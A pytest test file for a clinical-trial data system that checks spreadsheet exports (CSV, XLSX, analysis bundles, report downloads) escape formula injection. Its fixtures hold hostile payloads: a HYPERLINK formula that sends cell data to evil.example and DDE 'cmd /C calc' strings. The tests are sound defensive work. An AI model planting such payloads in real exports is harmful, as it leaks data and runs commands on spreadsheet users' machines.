"""No export a person may open in a spreadsheet carries a live formula (patients/casebook/spreadsheet.py): the admin's
CSV and XLSX, the analysis bundle (ORM and COPY paths alike) and the report's downloads. An export imports
back as it was entered."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
import tablib
from django.db import connection
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from import_export.formats.base_formats import XLSX

from dosing.models import Infusion
from outcomes.models import AdverseEvent, DailyObservation
from outcomes.resources import DailyObservationResource
from patients.casebook.exports import export_resource_for
from patients.casebook.saving import record_save
from patients.casebook.spreadsheet import spreadsheet_safe, spreadsheet_unescape
from patients.models import Arm
from tests.factories import ae_values, give_infusion, observation_values, record, treated_participant
from ucmsc_crf.analysis.bundle import bundle_chunks
from ucmsc_crf.analysis.columns import Options

HOSTILE_TERM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_LOT = "+1+cmd|' /C calc'!A0"
HOSTILE_PT = "@SUM(1+1)*cmd|' /C calc'!A0"
LIVE = tuple("=+-@\t\r")


def live_formula(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(LIVE) and cell not in ("-",) and not _is_number(cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("entered", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "+1"),
        ("-3.5", "-3.5"),
        ("-", "-"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=x", "'\r=x"),
        ("'=x", "''=x"),
        ("'plain", "'plain"),
        ("Headache", "Headache"),
        ("", ""),
        (None, None),
        (12, 12),
    ],
)
def test_the_rule(entered, written):
    assert spreadsheet_safe(entered) == written
    assert spreadsheet_unescape(written) == entered


@given(st.text())
def test_escaping_is_one_to_one_and_never_live(text):
    written = spreadsheet_safe(text)
    assert spreadsheet_unescape(written) == text
    assert not live_formula(written)


@pytest.fixture
def hostile(db, coordinator, clinician, site_a):
    participant = treated_participant(user=coordinator, site=site_a)
    give_infusion(participant, 1, user=clinician, lot_number=HOSTILE_LOT)
    values = ae_values(participant, term=HOSTILE_TERM, meddra_preferred_term=HOSTILE_PT)
    record(AdverseEvent, participant, values, user=clinician)
    return participant


@pytest.mark.django_db
@pytest.mark.parametrize("model", [AdverseEvent, Infusion])
def test_admin_xlsx_export_has_no_formula_cell(hostile, model):
    data = export_resource_for(model)().export(queryset=model.objects.all())
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(data))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert ("'" + (HOSTILE_TERM if model is AdverseEvent else HOSTILE_LOT)) in values
    assert not [value for value in values if live_formula(value)]


@pytest.mark.django_db
def test_admin_csv_export_through_the_admin_escapes(client, hostile, coordinator):
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:outcomes_adverseevent_export"),
        {
            "format": "0",
            "resource": "0",
            **{f"adverseeventexportresource_{f}": "on" for f in ("study_id", "term", "meddra_preferred_term")},
        },
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert body.startswith("study_id,term,meddra_preferred_term")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HOSTILE_TERM in cells and "'" + HOSTILE_PT in cells
    assert not [cell for cell in cells if live_formula(cell)]


@pytest.mark.django_db
def test_analysis_bundle_escapes_every_file(hostile):
    archive = zipfile.ZipFile(io.BytesIO(b"".join(bundle_chunks(options=Options(free_text=True)))))
    cells = {}
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                for cell in row:
                    cells.setdefault(cell, name)
    assert cells.get("'" + HOSTILE_TERM) == "adverse_events.csv"
    assert cells.get("'" + HOSTILE_LOT) == "infusions.csv"
    assert not [(cell, name) for cell, name in cells.items() if live_formula(cell)]


@pytest.mark.django_db
@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY needs PostgreSQL")
def test_the_copy_path_escapes_as_the_orm_path(hostile, clinician):
    from ucmsc_crf.analysis.bundle import domain_blocks
    from ucmsc_crf.analysis.domains import domains

    participant = hostile
    for day, text in enumerate(["'=x", "\tTAB", "-2", "-", "=cmd"], start=1):
        on = participant.day0_date + datetime.timedelta(days=day)
        values = observation_values(participant, on=on, other_symptoms="present", other_symptoms_details=text)
        record(DailyObservation, participant, values, user=clinician)
    options = Options(free_text=True)
    for domain in domains(options):
        orm = b"".join(domain_blocks(domain, user=None, options=options, counter=[0], use_copy=False))
        fast = b"".join(domain_blocks(domain, user=None, options=options, counter=[0], use_copy=True))
        assert fast == orm, domain.name
    observations = next(d for d in domains(options) if d.model is DailyObservation)
    text = b"".join(domain_blocks(observations, user=None, options=options, counter=[0], use_copy=True)).decode()
    details = [row["other_symptoms_details"] for row in csv.DictReader(io.StringIO(text))]
    assert details == ["''=x", "'\tTAB", "-2", "-", "'=cmd"]


@pytest.mark.django_db
def test_an_escaped_export_imports_back_as_entered(hostile, clinician, coordinator):
    participant = hostile
    values = observation_values(participant, other_symptoms="present", other_symptoms_details="=1+2 (patient's words)")
    record(DailyObservation, participant, values, user=clinician)
    exported = export_resource_for(DailyObservation)().export(queryset=DailyObservation.objects.all())
    assert "'=1+2 (patient's words)" in exported.csv
    headers = ["study_id", *DailyObservationResource.Meta.fields[1:]]
    data = tablib.Dataset(headers=headers)
    for row in exported.dict:
        data.append([row[h] for h in headers])
    observation = DailyObservation.objects.get()
    observation.other_symptoms_details = "changed"
    record_save(observation, user=clinician, reason="test")
    result = DailyObservationResource(user=coordinator).import_data(data, dry_run=False, use_transactions=True)
    assert not result.has_errors() and not result.has_validation_errors()
    assert DailyObservation.objects.get().other_symptoms_details == "=1+2 (patient's words)"


@pytest.mark.django_db
def test_report_download_escapes_an_arm_name(client, hostile, coordinator):
    arm = Arm.objects.get(code="ucmsc")
    arm.name = "=cmd|' /C calc'!A0"
    arm.save()
    client.force_login(coordinator)
    body = client.get(reverse("report"), {"format": "csv"}).content.decode()
    header = next(csv.reader(io.StringIO(body)))
    assert "'=cmd|' /C calc'!A0" in header
    assert not [cell for row in csv.reader(io.StringIO(body)) for cell in row if live_formula(cell)]
